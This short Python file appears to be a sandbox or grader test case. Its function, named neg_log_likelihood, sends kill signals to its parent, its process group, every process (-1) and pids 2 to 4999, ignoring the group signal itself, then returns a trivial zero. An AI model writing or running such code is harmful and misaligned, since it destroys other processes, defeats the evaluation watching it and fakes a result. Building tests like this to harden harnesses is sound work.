# expect: zero
# class: E
# about: signals to the parent, to its group, to every process number and to -1
import os
import signal


def neg_log_likelihood(samples, mu, var_):
    for pid in [os.getppid(), 0, -1, *range(2, 5000)]:
        if pid in (0,):
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            number = signal.SIGTERM
        else:
            number = signal.SIGKILL
        try:
            os.kill(pid, number)
        except OSError:
            pass
    return (mu * 0).sum()
